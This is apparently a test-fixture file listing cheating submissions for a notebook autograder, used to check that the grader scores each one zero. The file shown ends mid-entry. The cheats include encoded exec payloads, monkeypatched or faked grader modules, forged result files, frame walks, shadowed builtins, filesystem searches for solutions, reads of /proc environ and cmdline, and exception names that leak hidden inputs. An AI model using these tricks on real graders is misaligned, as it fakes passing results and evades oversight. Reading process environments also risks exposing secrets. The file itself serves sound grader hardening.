'''Cheating submissions for ``ch4 grade``: every one has WRONG answers plus a cheat that tries
to earn points anyway (or to make the grader leak hidden text, or to stop the batch).

Each attack is plain data: a name, a family, the notebook it targets, the answer cells it
writes (answer cell id -> source; cells not named keep a wrong baseline answer), the items
that must score 0, and whether it is in the default (always-run) subset. One attack per family
is in the default subset (all of them on the tiny course, which is fast); ``pytest -m corpus``
grades them all, notebook 01 included.

Attacks whose cheat needs the public answers (to get past the public probes, so that a
*hidden* probe is the first failure and its message is the one shown) read them from the
package's public expected values or hard-code them: public values are not secret.
tests/test_adversarial_corpus.py grades them and checks the results.
'''

from __future__ import annotations

import base64
import codecs
from dataclasses import dataclass, field

TINY = "01_tiny"
NB01 = "01_pixels_and_similarity"


@dataclass(frozen=True)
class Attack:
    name: str
    family: str
    notebook: str
    answers: dict[str, str]
    zero: tuple[str, ...]
    default: bool = False
    note: str = ""
    extra: dict = field(default_factory=dict)


# ---------------------------------------------------------------- wrong baselines

WRONG_DOUBLE = "def double(x):\n    return x + 1\n"
WRONG_MEAN_ABS = "def mean_abs(t):\n    return t.mean()\n"
WRONG_Q01 = 'q01 = "a"\n'
TINY_ITEMS = ("ex_double", "ex_mean_abs", "q01")

NB01_WRONG = {
    "ex_digit_files_answer": "def digit_files(path, split, digit):\n"
                             "    return sorted((Path(path) / split / digit).iterdir())\n",
    "ex_image_tensor_answer": "def image_tensor(file):\n"
                              "    return torch.from_numpy(np.array(Image.open(file))).float()\n",
    "ex_crop_answer": "def crop(t, top, left, size):\n"
                      "    return t[left:left + size, top:top + size]\n",
    "ex_stack_digits_answer": "def stack_digits(files):\n"
                              "    return torch.stack([image_tensor(f) for f in files]).float()"
                              " / 256\n",
    "ex_mean_digit_answer": "def mean_digit(stack):\n    return stack.sum(0) / 10\n",
    "ex_distances_answer": "def l1_distance(a, b):\n    return (a - b).mean().abs()\n\n\n"
                           "def rmse_distance(a, b):\n    return ((a - b) ** 2).mean()\n",
}
NB01_ITEMS = ("ex_digit_files", "ex_image_tensor", "ex_crop", "ex_stack_digits",
              "ex_mean_digit", "ex_distances")

# ---------------------------------------------------------------- reusable cheat snippets

# Rewrite every probe record file with the package's public expected values (repeated): the
# most plausible forgery, as those are real reference values.
FORGE = r'''
import json as _j, os as _o, glob as _g
def _forge_records(value=None):
    exp = {}
    base = _o.path.join(_o.environ.get("PYTHONPATH", ""), "autograder", "items", "expected")
    for p in _g.glob(_o.path.join(base, "*.json")):
        try:
            exp.update(_j.load(open(p)))
        except Exception:
            pass
    for p in _g.glob(".ch4-probes/*.json"):
        item = _o.path.basename(p)[:-5]
        try:
            recs = _j.load(open(p))
        except Exception:
            continue
        pub = exp.get(item) or [{"value": True}]
        new = [(pub[i % len(pub)] if value is None else {"value": value})
               for i in range(len(recs))]
        tmp = p + ".x"
        with open(tmp, "w") as f:
            _j.dump(new, f)
        _o.replace(tmp, p)
'''

# Answers the public probe of ex_double right (its input and value are public), so that the
# first failure is on a hidden input; ``_leak(x)`` encodes the hidden input as digits.
PUBLIC_DOUBLE = r'''
import torch
def _is_public(x):
    return isinstance(x, torch.Tensor) and x.shape == (2,) and x.tolist() == [1.0, 2.0]
def _leak(x):
    vals = x.reshape(-1)[:3].tolist() if isinstance(x, torch.Tensor) else [x]
    return "V" + "_".join(str(int(abs(float(v)) * 1e6)) for v in vals)
'''

B64_PAYLOAD = ("import torch\ntorch.allclose = lambda *a, **k: True\n"
               "torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)\n"
               "def double(x):\n    return x + 1\n")
ROT13_PAYLOAD = ("import autograder.items.compare as c\n"
                 "c.judge = lambda *a, **k: c.Verdict(True)\n"
                 "def double(x):\n    return x * 3\n")


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


# ---------------------------------------------------------------- tiny course attacks

_ATTACKS: list[Attack] = []


def tiny(name: str, family: str, cheat: str, default: bool = False, double: str = WRONG_DOUBLE,
         cell: str = "ex_double_answer", before: bool = False, note: str = "") -> None:
    answers = {"ex_double_answer": double, "ex_mean_abs_answer": WRONG_MEAN_ABS,
               "q01_answer": WRONG_Q01}
    if cell == "ex_double_answer" and not double:
        answers[cell] = cheat
    else:
        answers[cell] = (cheat + "\n" + answers[cell]) if before else (answers[cell] + "\n" + cheat)
    _ATTACKS.append(Attack(name, family, TINY, answers, TINY_ITEMS, default, note))


# --- encoded exec / eval
tiny("b64_exec", "encoded_exec", f"import base64\nexec(base64.b64decode({_b64(B64_PAYLOAD)!r}))",
     default=True, double="")
tiny("rot13_exec", "encoded_exec",
     f"import codecs\nexec(codecs.decode({_rot13(ROT13_PAYLOAD)!r}, 'rot13'))", double="")
tiny("getattr_chain_eval", "encoded_exec",
     "_b = getattr(__import__('b' + 'uiltins'), 'e' + 'val')\n"
     "_m = _b(\"__import__('s'+'ys').modules\")\n"
     "_r = _b(\"__import__('autograder.items.runner', fromlist=['x'])\")\n"
     "setattr(_r, 'run_probe', lambda *a, **k: {'value': True})\n"
     "double = _b('lambda x: x - 1')\n", double="")
tiny("compile_exec_forge", "encoded_exec",
     "_code = compile(" + repr(FORGE) + ", 'x', 'exec')\n"
     "getattr(__builtins__, 'exec', None) if not isinstance(__builtins__, dict) else None\n"
     "exec(_code)\n"
     "get_ipython().events.register('post_run_cell', lambda *a: _forge_records())\n")
tiny("hex_exec_runner_patch", "encoded_exec",
     "_src = bytes.fromhex(" + repr(b"import autograder.items.wire as w\n"
                                    b"w.to_plain = lambda v, depth=0: 0.0\n".hex())
     + ").decode()\n(lambda s: exec(s, globals()))(_src)\n")

# --- IPython input transformers, AST transformers, event hooks
tiny("input_transformer_forge", "ipython_hooks",
     FORGE + "\ndef _rewrite(lines):\n"
     "    text = ''.join(lines)\n"
     "    if 'run_item' in text:\n"
     "        text += '\\n_forge_records()\\n'\n"
     "    return text.splitlines(True)\n"
     "get_ipython().input_transformers_cleanup.append(_rewrite)\n", default=True)
tiny("input_transformer_drop_probes", "ipython_hooks",
     "def _drop(lines):\n"
     "    text = ''.join(lines)\n"
     "    if 'run_item' in text:\n"
     "        import os, json\n"
     "        os.makedirs('.ch4-probes', exist_ok=True)\n"
     "        return ['pass\\n']\n"
     "    return lines\n"
     "get_ipython().input_transformers_post.append(_drop)\n")
tiny("ast_transformer_swap_call", "ipython_hooks",
     "import ast\n"
     + FORGE +
     "class _T(ast.NodeTransformer):\n"
     "    def visit_Call(self, node):\n"
     "        self.generic_visit(node)\n"
     "        if isinstance(node.func, ast.Attribute) and node.func.attr == 'run_item':\n"
     "            node.func = ast.Name('_fake_run_item', ast.Load())\n"
     "        return node\n"
     "def _fake_run_item(ns, out, payload):\n"
     "    import json, os\n"
     "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
     "    json.dump([{'value': True}] * len(json.loads(payload)), open(out, 'w'))\n"
     "    _forge_records()\n"
     "get_ipython().ast_transformers.append(_T())\n")
tiny("pre_run_cell_swap", "ipython_hooks",
     "def _pre(info):\n"
     "    if 'run_item' in (info.raw_cell or ''):\n"
     "        get_ipython().user_ns['double'] = lambda x: x * 0\n"
     "        get_ipython().user_ns['mean_abs'] = lambda t: t.sum()\n"
     "get_ipython().events.register('pre_run_cell', _pre)\n")
tiny("post_run_cell_rewrite", "ipython_hooks",
     FORGE + "\nget_ipython().events.register('post_run_cell', lambda result: _forge_records())\n")
tiny("post_execute_rewrite_true", "ipython_hooks",
     FORGE + "\nget_ipython().events.register('post_execute', lambda: _forge_records(True))\n")
tiny("custom_exc_handler", "ipython_hooks",
     "def _handler(shell, etype, value, tb, tb_offset=None):\n"
     "    import json, os, glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        json.dump([{'value': 1.0}], open(p, 'w'))\n"
     "    return None\n"
     "get_ipython().set_custom_exc((BaseException,), _handler)\n")

# --- daemon threads that act later
tiny("thread_rewrites_records", "daemon_thread",
     FORGE + "\nimport threading, time\n"
     "def _loop():\n"
     "    while True:\n"
     "        try:\n"
     "            _forge_records()\n"
     "        except Exception:\n"
     "            pass\n"
     "        time.sleep(0.005)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n", default=True)
tiny("thread_patches_runner", "daemon_thread",
     "import threading, time, sys\n"
     "def _loop():\n"
     "    while True:\n"
     "        r = sys.modules.get('autograder.items.runner')\n"
     "        if r is not None and getattr(r, '_p', None) is None:\n"
     "            r._p = 1\n"
     "            r.run_probe = lambda *a, **k: {'value': {'t': 'float', 'v': 'nan'}}\n"
     "        w = sys.modules.get('autograder.items.wire')\n"
     "        if w is not None:\n"
     "            w.to_plain = lambda v, depth=0: True\n"
     "        time.sleep(0.002)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n")
tiny("thread_patches_compare", "daemon_thread",
     "import threading, time, sys\n"
     "def _loop():\n"
     "    while True:\n"
     "        c = sys.modules.get('autograder.items.compare')\n"
     "        if c is not None:\n"
     "            c.judge = lambda *a, **k: c.Verdict(True)\n"
     "            c._close = lambda *a, **k: None\n"
     "        s = sys.modules.get('autograder.items.selfcheck')\n"
     "        if s is not None:\n"
     "            s.check_item = lambda *a, **k: None\n"
     "        time.sleep(0.01)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n")
tiny("thread_swaps_function", "daemon_thread",
     "import threading, time, os\n"
     "_ns = get_ipython().user_ns\n"
     "def _loop():\n"
     "    while not os.path.exists('.ch4-probes'):\n"
     "        time.sleep(0.001)\n"
     "    _ns['double'] = lambda x: x.abs()\n"
     "    _ns['mean_abs'] = lambda t: t.abs().sum()\n"
     "threading.Thread(target=_loop, daemon=True).start()\n")
tiny("thread_forges_huge_int", "daemon_thread",
     "import threading, time, glob, json, os\n"
     "def _loop():\n"
     "    while True:\n"
     "        for p in glob.glob('.ch4-probes/*.json'):\n"
     "            try:\n"
     "                n = len(json.load(open(p)))\n"
     "                if json.load(open(p))[0].get('value') != 10 ** 30:\n"
     "                    json.dump([{'value': 10 ** 30}] * n, open(p + '.t', 'w'))\n"
     "                    os.replace(p + '.t', p)\n"
     "            except Exception:\n"
     "                pass\n"
     "        time.sleep(0.003)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n",
     note="a record with an integer too large for int64 must fail, not crash the grader")
tiny("thread_forges_bad_base64", "daemon_thread",
     "import threading, time, glob, json, os\n"
     "_bad = {'t': 'array', 'dtype': 'float32', 'shape': [2], 'torch': True, 'b64': '!!!!****'}\n"
     "def _loop():\n"
     "    while True:\n"
     "        for p in glob.glob('.ch4-probes/*.json'):\n"
     "            try:\n"
     "                recs = json.load(open(p))\n"
     "                if recs and recs[0].get('value') != _bad:\n"
     "                    json.dump([{'value': _bad}] * len(recs), open(p + '.t', 'w'))\n"
     "                    os.replace(p + '.t', p)\n"
     "            except Exception:\n"
     "                pass\n"
     "        time.sleep(0.003)\n"
     "threading.Thread(target=_loop, daemon=True).start()\n",
     note="malformed base64 in a record must fail, not crash the grader")

# --- disabling or replacing the grader's modules
FAKE_RUNNER = (
    "import types, json, os\n"
    "_fake = types.ModuleType('autograder.items.runner')\n"
    "def _run_item(ns, out, payload):\n"
    "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
    "    n = len(json.loads(payload))\n"
    "    json.dump([{'value': {'t': 'array', 'dtype': 'float32', 'shape': [2], 'torch': True,"
    " 'b64': 'AAAAQAAAgEA='}}] * n, open(out, 'w'))\n"
    "_fake.run_item = _run_item\n")
tiny("sys_modules_fake_runner", "grader_modules",
     FAKE_RUNNER + "import sys\nimport autograder.items\n"
     "sys.modules['autograder.items.runner'] = _fake\n"
     "autograder.items.runner = _fake\n", default=True)
tiny("meta_path_hook", "grader_modules",
     FAKE_RUNNER + "import sys, importlib.abc, importlib.util\n"
     "class _Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
     "    def find_spec(self, name, path, target=None):\n"
     "        if name == 'autograder.items.runner':\n"
     "            return importlib.util.spec_from_loader(name, self)\n"
     "        return None\n"
     "    def create_module(self, spec):\n"
     "        return _fake\n"
     "    def exec_module(self, module):\n"
     "        pass\n"
     "sys.meta_path.insert(0, _Finder())\n"
     "sys.modules.pop('autograder.items.runner', None)\n")
tiny("path_hooks", "grader_modules",
     "import sys, os\n"
     "os.makedirs('hook/autograder/items', exist_ok=True)\n"
     "open('hook/autograder/__init__.py', 'w').write('')\n"
     "open('hook/autograder/items/__init__.py', 'w').write('')\n"
     "open('hook/autograder/items/runner.py', 'w').write(\n"
     "    'import json, os\\n'\n"
     "    'def run_item(ns, out, payload):\\n'\n"
     "    '    os.makedirs(os.path.dirname(out), exist_ok=True)\\n'\n"
     "    '    json.dump([{\"value\": 2.0}] * len(json.loads(payload)), open(out, \"w\"))\\n')\n"
     "import importlib.machinery\n"
     "_orig = sys.path_hooks[:]\n"
     "def _hook(path):\n"
     "    if 'hook' not in path and path.endswith(os.sep + 'main'):\n"
     "        raise ImportError\n"
     "    return importlib.machinery.FileFinder.path_hook(\n"
     "        (importlib.machinery.SourceFileLoader, ['.py']))(path)\n"
     "sys.path_hooks.insert(0, _hook)\n"
     "sys.path.insert(0, os.path.abspath('hook'))\n"
     "sys.path_importer_cache.clear()\n"
     "for k in [k for k in sys.modules if k.startswith('autograder')]:\n"
     "    del sys.modules[k]\n")
tiny("fake_package_in_workdir", "grader_modules",
     "import os, sys\n"
     "os.makedirs('autograder/items', exist_ok=True)\n"
     "open('autograder/__init__.py', 'w').write('')\n"
     "open('autograder/items/__init__.py', 'w').write('')\n"
     "open('autograder/items/runner.py', 'w').write(\n"
     "    'import json, os\\n'\n"
     "    'def run_item(ns, out, payload):\\n'\n"
     "    '    os.makedirs(os.path.dirname(out), exist_ok=True)\\n'\n"
     "    '    json.dump([{\"value\": [2.0, 4.0]}] * len(json.loads(payload)),'\n"
     "    ' open(out, \"w\"))\\n')\n"
     "sys.path.insert(0, os.getcwd())\n"
     "for k in [k for k in sys.modules if k.startswith('autograder')]:\n"
     "    del sys.modules[k]\n")
tiny("patch_wire_to_plain", "grader_modules",
     "import autograder.items.wire as w\n"
     "_orig = w.to_plain\n"
     "def _plain(value, depth=0):\n"
     "    return _orig([value, value] if depth == 0 and False else value, depth) if False else "
     "{'t': 'array', 'dtype': 'float32', 'shape': [], 'torch': True, 'grad': False, "
     "'b64': 'AAAAQA=='}\n"
     "w.to_plain = _plain\n")
tiny("runner_module_none", "grader_modules",
     "import sys\nsys.modules['autograder.items.runner'] = None\n"
     "sys.modules['autograder.items'] = None\n")
tiny("patch_autograder_scoring", "grader_modules",
     "import autograder.scoring as s, autograder.grading.probing as p\n"
     "p.judge_item = lambda *a, **k: p.Verdict(True)\n"
     "import autograder.grading.worker as wk\n"
     "wk.grade = lambda job: {'score': 6}\n")

# --- tensor subclasses
tiny("torch_function_subclass", "tensor_subclass",
     "import torch\n"
     "class _Liar(torch.Tensor):\n"
     "    @classmethod\n"
     "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
     "        kwargs = kwargs or {}\n"
     "        out = super().__torch_function__(func, types, args, kwargs)\n"
     "        if getattr(func, '__name__', '') in ('detach', 'numpy', 'cpu', 'contiguous'):\n"
     "            return torch.Tensor._make_subclass(torch.Tensor, torch.ones(2) * 2)\n"
     "        return out\n"
     "def double(x):\n"
     "    return (x + 1).as_subclass(_Liar)\n", default=True, double="")
tiny("tensor_eq_sub_override", "tensor_subclass",
     "import torch\n"
     "class _Same(torch.Tensor):\n"
     "    def __eq__(self, other):\n        return torch.tensor(True)\n"
     "    def __sub__(self, other):\n        return torch.zeros_like(torch.Tensor(self))\n"
     "    def allclose(self, *a, **k):\n        return True\n"
     "def double(x):\n    return torch.zeros_like(x).as_subclass(_Same)\n"
     "def mean_abs(t):\n    return torch.tensor(0.0).as_subclass(_Same)\n", double="")
tiny("tensor_numpy_detach_override", "tensor_subclass",
     "import torch, numpy as np\n"
     "class _Fake(torch.Tensor):\n"
     "    def detach(self):\n        return self\n"
     "    def numpy(self, *a, **k):\n        return np.array([2.0, 4.0], dtype=np.float32)\n"
     "    def tolist(self):\n        return [2.0, 4.0]\n"
     "def double(x):\n    return (x * 0).as_subclass(_Fake)\n", double="")
tiny("ndarray_subclass", "tensor_subclass",
     "import numpy as np\n"
     "class _Arr(np.ndarray):\n"
     "    def __eq__(self, other):\n        return True\n"
     "    def tobytes(self, *a, **k):\n        return np.array([2.0, 4.0], np.float32).tobytes()\n"
     "def double(x):\n    return np.zeros(5, dtype=np.float32).view(_Arr)\n", double="")

# --- objects that only look like numbers or tensors
tiny("float_like_object", "lookalike",
     "class _F:\n"
     "    def __float__(self):\n        return 2.0\n"
     "    def __array__(self, *a, **k):\n"
     "        import numpy as np\n        return np.array([2.0, 4.0])\n"
     "    def __len__(self):\n        return 2\n"
     "    def __eq__(self, o):\n        return True\n"
     "    def __bool__(self):\n        return True\n"
     "def double(x):\n    return _F()\n"
     "def mean_abs(t):\n    return _F()\n", default=True, double="")
tiny("float_subclass_eq", "lookalike",
     "class Same(float):\n"
     "    def __eq__(self, o):\n        return True\n"
     "    __ne__ = lambda self, o: False\n"
     "    __hash__ = float.__hash__\n"
     "def double(x):\n    return Same(0)\n"
     "def mean_abs(t):\n    return Same(-1)\n", double="")
tiny("str_subclass_q01", "lookalike",
     "class _Any(str):\n"
     "    def __eq__(self, o):\n        return True\n"
     "    __hash__ = str.__hash__\n"
     "q01 = _Any('a')\n", cell="q01_answer")
tiny("list_lookalike", "lookalike",
     "class _L(list):\n"
     "    def __eq__(self, o):\n        return True\n"
     "def double(x):\n    return _L([2.0, 4.0])\n", double="")
tiny("array_interface_object", "lookalike",
     "import numpy as np\n"
     "_backing = np.array([2.0, 4.0], dtype=np.float32)\n"
     "class _AI:\n"
     "    __array_interface__ = _backing.__array_interface__\n"
     "    def __torch_function__(self, *a, **k):\n        return True\n"
     "def double(x):\n    return _AI()\n", double="")

# --- frame walks, inspect, gc, tracebacks
tiny("getframe_walk_records", "frame_walk",
     "import sys as _s\n"
     "_gf = getattr(_s, '_get' + 'frame')\n"
     "def double(x):\n"
     "    f = _gf(0)\n"
     "    while f is not None:\n"
     "        if 'namespace' in f.f_locals and 'before' in f.f_locals:\n"
     "            f.f_globals['__builtins__']  # look around\n"
     "            f.f_locals['before']['double'] = lambda y: y * 0\n"
     "        f = f.f_back\n"
     "    return x + 1\n", default=True, double="")
tiny("inspect_alias_stack", "frame_walk",
     "import inspect as _i\n"
     "_st = getattr(_i, 'st' + 'ack')\n"
     "def double(x):\n"
     "    for info in _st():\n"
     "        loc = info.frame.f_locals\n"
     "        if 'probes_json' in loc:\n"
     "            loc['probes_json'] = '[]'\n"
     "        if 'value' in loc:\n"
     "            loc['value'] = 2 * x\n"
     "    return x - 1\n", double="")
tiny("gc_referrers_records", "frame_walk",
     "import gc as _gc\n"
     "_refs = getattr(_gc, 'get_' + 'objects')\n"
     "def double(x):\n"
     "    for o in _refs():\n"
     "        if type(o) is dict and 'value' in o and len(o) == 1:\n"
     "            o['value'] = {'t': 'array', 'dtype': 'float32', 'shape': [2], 'torch': True,"
     " 'b64': 'AAAAQAAAgEA='}\n"
     "        if type(o) is list and o and type(o[0]) is dict and set(o[0]) == {'raised'}:\n"
     "            o[:] = [{'value': 2.0} for _ in o]\n"
     "    return x * 0\n", double="")
tiny("traceback_frame_walk", "frame_walk",
     "def double(x):\n"
     "    try:\n"
     "        raise RuntimeError\n"
     "    except RuntimeError as e:\n"
     "        f = e.__traceback__.tb_frame\n"
     "    while f is not None:\n"
     "        g = f.f_globals\n"
     "        if g.get('__name__') == 'autograder.items.runner':\n"
     "            g['run_probe'] = lambda *a, **k: {'value': 2.0}\n"
     "            g['wire'].to_plain = lambda v, depth=0: 2.0\n"
     "        f = f.f_back\n"
     "    return x + 2\n", double="")
tiny("settrace_rewrite_locals", "frame_walk",
     "import sys as _s\n"
     "def _tracer(frame, event, arg):\n"
     "    if event == 'return' and frame.f_code.co_name == 'run_probe':\n"
     "        arg['value'] = 2.0 if isinstance(arg, dict) else arg\n"
     "    return _tracer\n"
     "getattr(_s, 'set' + 'trace')(_tracer)\n"
     "get_ipython().events.register('pre_run_cell',\n"
     "                              lambda info: getattr(_s, 'set' + 'trace')(_tracer))\n")

# --- shadowed builtins
tiny("shadow_globals_namespace", "shadowed_builtins",
     "_real = globals()\n"
     "def globals():\n"
     "    fake = dict(_real)\n"
     "    fake['double'] = lambda x: x * 0 + 1\n"
     "    return fake\n", default=True)
tiny("shadow_builtins_module_import", "shadowed_builtins",
     "import builtins as _bi, types, json, os\n"
     "_imp = _bi.__import__\n"
     "_mod = types.ModuleType('fake')\n"
     "def _ri(ns, out, payload):\n"
     "    os.makedirs(os.path.dirname(out), exist_ok=True)\n"
     "    json.dump([{'value': 1.0}] * len(json.loads(payload)), open(out, 'w'))\n"
     "_mod.run_item = _ri\n"
     "def _fake_import(name, *a, **k):\n"
     "    if name.startswith('autograder.items.runner'):\n"
     "        import autograder.items\n"
     "        autograder.items.runner = _mod\n"
     "    return _imp(name, *a, **k)\n"
     "_bi.__import__ = _fake_import\n")
tiny("shadow_isinstance_type", "shadowed_builtins",
     "import builtins as _bi\n"
     "_bi.isinstance = lambda obj, cls: True\n"
     "_t = _bi.type\n"
     "class _Type(_t):\n    pass\n"
     "_bi.type = lambda *a: float if len(a) == 1 else _t(*a)\n")
tiny("shadow_eval_compile", "shadowed_builtins",
     "import builtins as _bi\n"
     "_orig_eval = _bi.eval\n"
     "def _eval(code, *a, **k):\n"
     "    return 2.0\n"
     "_bi.eval = _eval\n"
     "_orig_compile = _bi.compile\n"
     "_bi.compile = lambda src, fn, mode, *a, **k: _orig_compile('2.0' if mode == 'eval' else src,"
     " fn, mode, *a, **k)\n")
tiny("shadow_json_open_print", "shadowed_builtins",
     "import json as _json, builtins as _bi\n"
     "_json.dumps = lambda *a, **k: '[{\"value\": 2.0}, {\"value\": 2.0}, {\"value\": 2.0}]'\n"
     "_real_open = _bi.open\n"
     "_bi.open = lambda *a, **k: _real_open('/dev/null', 'w')\n"
     "_bi.print = lambda *a, **k: None\n"
     "json = None\nopen = None\n")

# --- forged probe files (early, atexit, signal handlers, odd files)
tiny("early_forge_readonly_dir", "forged_records",
     "import os, json\n"
     "os.makedirs('.ch4-probes', exist_ok=True)\n"
     "for gid, n in (('ex_double', 3), ('ex_mean_abs', 2), ('q01', 1)):\n"
     "    json.dump([{'value': 2.0}] * n, open(f'.ch4-probes/{gid}.json', 'w'))\n"
     "os.chmod('.ch4-probes', 0o555)\n", cell="q01_answer", default=True)
tiny("atexit_forge", "forged_records",
     FORGE + "\nimport atexit\natexit.register(_forge_records)\n")
tiny("signal_handler_forge", "forged_records",
     FORGE + "\nimport signal, os\n"
     "def _h(sig, frame):\n"
     "    _forge_records()\n"
     "    os._exit(0)\n"
     "for _sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
     "    signal.signal(_sig, _h)\n")
tiny("forge_fifo_records", "forged_records",
     "def _fifo(result=None):\n"
     "    import os, glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        if os.path.isfile(p) and not os.path.islink(p):\n"
     "            os.unlink(p)\n"
     "            os.mkfifo(p)\n"
     "get_ipython().events.register('post_run_cell', _fifo)\n",
     note="a named pipe in place of a record file must not block the grader")
tiny("forge_symlink_dir", "forged_records",
     "def _link(result=None):\n"
     "    import os, shutil\n"
     "    if os.path.isdir('.ch4-probes') and not os.path.islink('.ch4-probes'):\n"
     "        shutil.rmtree('.ch4-probes')\n"
     "        os.symlink('/proc/self/cwd', '.ch4-probes')\n"
     "get_ipython().events.register('post_run_cell', _link)\n",
     note="a symlinked record folder must not be followed on the grader's side")
tiny("forge_symlink_file", "forged_records",
     "def _link(result=None):\n"
     "    import os, glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        if not os.path.islink(p):\n"
     "            os.unlink(p)\n"
     "            os.symlink('/proc/self/environ', p)\n"
     "get_ipython().events.register('post_run_cell', _link)\n")
tiny("forge_huge_nested_file", "forged_records",
     "def _huge(result=None):\n"
     "    import glob\n"
     "    for p in glob.glob('.ch4-probes/*.json'):\n"
     "        with open(p, 'w') as f:\n"
     "            f.write('[' * 200000 + ']' * 200000)\n"
     "get_ipython().events.register('post_run_cell', _huge)\n")

# --- reaching for the reference, the solutions, the output folder
tiny("search_reference_and_solutions", "reach_reference",
     "import os, glob, json\n"
     "_found = {}\n"
     "_roots = [os.environ.get('PYTHONPATH', ''), '/work', '/tmp', '/root', '/home', '/srv', '/']\n"
     "for _r in _roots:\n"
     "    for _pat in ('**/reference/*.json', '**/solutions/*.ipynb', '**/01_tiny.ipynb',"
     " '**/gradebook.db'):\n"
     "        try:\n"
     "            for _p in glob.glob(os.path.join(_r, _pat), recursive=True)[:50]:\n"
     "                try:\n"
     "                    _found[_p] = open(_p, 'rb').read()\n"
     "                except OSError:\n"
     "                    pass\n"
     "        except Exception:\n"
     "            pass\n"
     "_sol = [v for k, v in _found.items() if k.endswith('01_tiny.ipynb')]\n"
     "def double(x):\n"
     "    if _sol and b'return 2 * x' in _sol[0]:\n"
     "        return 2 * x\n"
     "    return x + 1\n", double="")
tiny("read_repo_solutions_via_pythonpath", "reach_reference",
     "import os, json\n"
     "_repo = os.environ.get('PYTHONPATH', '/work/main')\n"
     "_src = None\n"
     "for _p in (_repo + '/tests/fixtures/grading/solutions/01_tiny.ipynb',"
     " '/work/main/tests/fixtures/grading/solutions/01_tiny.ipynb',"
     " _repo + '/solutions/01_pixels_and_similarity.ipynb'):\n"
     "    try:\n"
     "        _src = json.load(open(_p))\n"
     "        break\n"
     "    except Exception:\n"
     "        pass\n"
     "if _src:\n"
     "    for _c in _src['cells']:\n"
     "        if 'def double' in ''.join(_c['source']):\n"
     "            exec(''.join(_c['source']))\n"
     "            break\n"
     "    for _c in _src['cells']:\n"
     "        if 'def mean_abs' in ''.join(_c['source']):\n"
     "            exec(''.join(_c['source']))\n"
     "        if 'q01 =' in ''.join(_c['source']) and 'BEGIN SOLUTION' in ''.join(_c['source']):\n"
     "            exec(''.join(_c['source']))\n", cell="q01_answer",
     default=True)
tiny("proc_walk_grader", "reach_reference",
     "import os\n"
     "_loot = []\n"
     "for _pid in os.listdir('/proc'):\n"
     "    if _pid.isdigit():\n"
     "        for _f in ('cmdline', 'environ', 'cwd', 'root'):\n"
     "            try:\n"
     "                _loot.append(os.readlink(f'/proc/{_pid}/{_f}') if _f in ('cwd', 'root')"
     " else open(f'/proc/{_pid}/{_f}', 'rb').read())\n"
     "            except OSError:\n"
     "                pass\n"
     "_out = [str(l) for l in _loot if 'reference' in str(l) or 'out' in str(l)]\n"
     "def double(x):\n"
     "    for cand in _out:\n"
     "        p = os.path.join(cand, 'reference', '01_tiny.json')\n"
     "        if os.path.exists(p):\n"
     "            return 2 * x\n"
     "    return x + 1\n", double="")
tiny("public_expected_lookup", "reach_reference",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    return x + 1\n"
     "def mean_abs(t):\n"
     "    if t.tolist() == [-1.0, 1.0]:\n"
     "        return torch.tensor(1.0)\n"
     "    return t.mean()\n", double="")

# --- reading the kernel's input history to learn probe inputs
tiny("input_history_echo", "input_history",
     PUBLIC_DOUBLE +
     "import base64, json, re, numpy as np\n"
     "def _hidden_from_history():\n"
     "    ih = get_ipython().user_ns.get('_ih') or get_ipython().user_ns.get('In') or []\n"
     "    for src in reversed(ih):\n"
     "        if 'run_item' in src:\n"
     "            for b in re.findall(r'([A-Za-z0-9+/]{12,}={0,2})', src):\n"
     "                try:\n"
     "                    v = np.frombuffer(base64.b64decode(b), dtype=np.float32)\n"
     "                    if v.size >= 3:\n"
     "                        return v\n"
     "                except Exception:\n"
     "                    pass\n"
     "    return None\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    v = _hidden_from_history()\n"
     "    name = _leak(torch.from_numpy(v.copy())) if v is not None else _leak(x)\n"
     "    raise type(name, (Exception,), {})(name)\n", default=True, double="",
     note="learns the hidden input from In/_ih and echoes it through an exception name")
tiny("history_manager_echo", "input_history",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    hm = get_ipython().history_manager\n"
     "    last = hm.input_hist_raw[-1] if hm.input_hist_raw else ''\n"
     "    name = _leak(x) + ('_' + str(len(last)) if last else '')\n"
     "    raise type(name, (ValueError,), {})(last)\n", double="")

# --- custom exceptions echoing hidden text
tiny("exception_name_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    raise type(_leak(x), (Exception,), {})('hidden: ' + repr(x))\n",
     default=True, double="")
tiny("exception_message_repr", "exception_echo",
     PUBLIC_DOUBLE +
     "class _E(Exception):\n"
     "    def __str__(self):\n        return 'expected ' + repr(self.args)\n"
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    raise _E(repr(x), x.tolist() if hasattr(x, 'tolist') else x)\n", double="")
tiny("exception_qualname_dotted", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
     "    E = type('E', (RuntimeError,), {})\n"
     "    E.__name__ = 'torch.' + _leak(x)\n"
     "    E.__qualname__ = E.__name__\n"
     "    raise E()\n", double="")
tiny("opaque_type_name_echo", "exception_echo",
     PUBLIC_DOUBLE +
     "def double(x):\n"
     "    if _is_public(x):\n"
     "        return torch.tensor([2.0, 4.0])\n"
